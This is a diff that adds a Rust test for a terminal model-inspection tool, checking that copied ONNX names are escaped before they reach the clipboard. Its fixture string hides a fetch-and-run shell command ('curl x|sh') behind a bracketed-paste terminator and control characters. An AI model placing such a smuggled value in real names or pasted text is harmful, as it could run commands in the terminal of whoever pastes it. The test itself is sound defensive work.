@@ -3,6 +3,7 @@
 
 mod common;
 
+use base64::Engine as _;
 use ratatui::backend::TestBackend;
 use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
 use ratatui::Terminal;
@@ -115,6 +116,88 @@ fn y_copies_the_selected_name_and_says_so_once() {
     assert!(!screen(&mut a).lines().last().unwrap().contains("copied"));
     press(&mut a, "4y");
     assert_eq!(a.copied.as_deref(), Some("aten::addmm.out"));
+}
+
+/// A name that runs a command if pasted raw into a shell: it ends a bracketed paste and
+/// holds newlines, then a C1 CSI, a right-to-left override, a zero-width space, a line
+/// separator and a tag character.
+const PASTE_BOMB: &str = "w\x1b[201~\r\ncurl x|sh\n\u{9b}2J\u{202e}\u{200b}\u{2028}\u{e0041}";
+
+/// An ONNX model whose node, operator type and initializer are all named [`PASTE_BOMB`].
+fn paste_bomb_model() -> rtenx::source::ModelFile {
+    use prost::Message;
+    use rtenx::formats::onnx::proto::{GraphProto, ModelProto, NodeProto, TensorProto};
+    let bomb = bytes::Bytes::from_static(PASTE_BOMB.as_bytes());
+    let tensor = TensorProto {
+        dims: vec![1],
+        data_type: Some(1),
+        name: Some(bomb.clone()),
+        raw_data: Some(vec![0; 4].into()),
+        ..Default::default()
+    };
+    let node = NodeProto {
+        name: Some(bomb.clone()),
+        op_type: Some(bomb.clone()),
+        input: vec![bomb.clone()],
+        output: vec!["y".into()],
+        ..Default::default()
+    };
+    let graph = GraphProto {
+        node: vec![node.encode_to_vec().into()],
+        initializer: vec![tensor.encode_to_vec().into()],
+        ..Default::default()
+    };
+    let bytes = ModelProto::with_graph(&graph, 21).encode_to_vec();
+    rtenx::source::ModelFile::in_memory("bomb.onnx", bytes)
+}
+
+#[test]
+fn y_copies_a_hostile_name_escaped_from_every_tab() {
+    let file = paste_bomb_model();
+    let cases = [
+        (Tab::Graph, ""),
+        (Tab::Graph, "a/201\n"),
+        (Tab::Graph, "v"),
+        (Tab::Operators, ""),
+        (Tab::Tensors, ""),
+        (Tab::Findings, "/201\n"),
+        (Tab::Sizes, "G"),
+    ];
+    for (tab, keys) in cases {
+        let mut a = App::new(rtenx::analyze_file(&file), tab);
+        press(&mut a, keys);
+        let what = format!("{tab:?} after {keys:?}");
+        let shown = screen(&mut a);
+        let raw = shown
+            .lines()
+            .any(|l| l.contains(rtenx::escape::needs_escape));
+        assert!(!raw, "{what}: {shown}");
+        press(&mut a, "y");
+        let copied = a
+            .copied
+            .clone()
+            .unwrap_or_else(|| panic!("{what}: nothing"));
+        assert!(
+            copied.contains("\\u{1b}[201~\\u{d}\\u{a}"),
+            "{what}: {copied}"
+        );
+        let sequence = rtenx::tui::clipboard::osc52(&copied);
+        let payload = sequence
+            .strip_prefix("\x1b]52;c;")
+            .and_then(|s| s.strip_suffix('\x07'))
+            .unwrap();
+        let pasted = base64::engine::general_purpose::STANDARD
+            .decode(payload)
+            .unwrap();
+        let pasted = String::from_utf8(pasted).unwrap();
+        // ESC, CR, LF, DEL and C1 controls are all `is_control`.
+        assert!(!pasted.contains(char::is_control), "{what}: {pasted:?}");
+        assert!(
+            !pasted.contains(rtenx::escape::needs_escape),
+            "{what}: {pasted:?}"
+        );
+        assert_eq!(pasted, *copied, "{what}");
+    }
 }
 
 #[test]
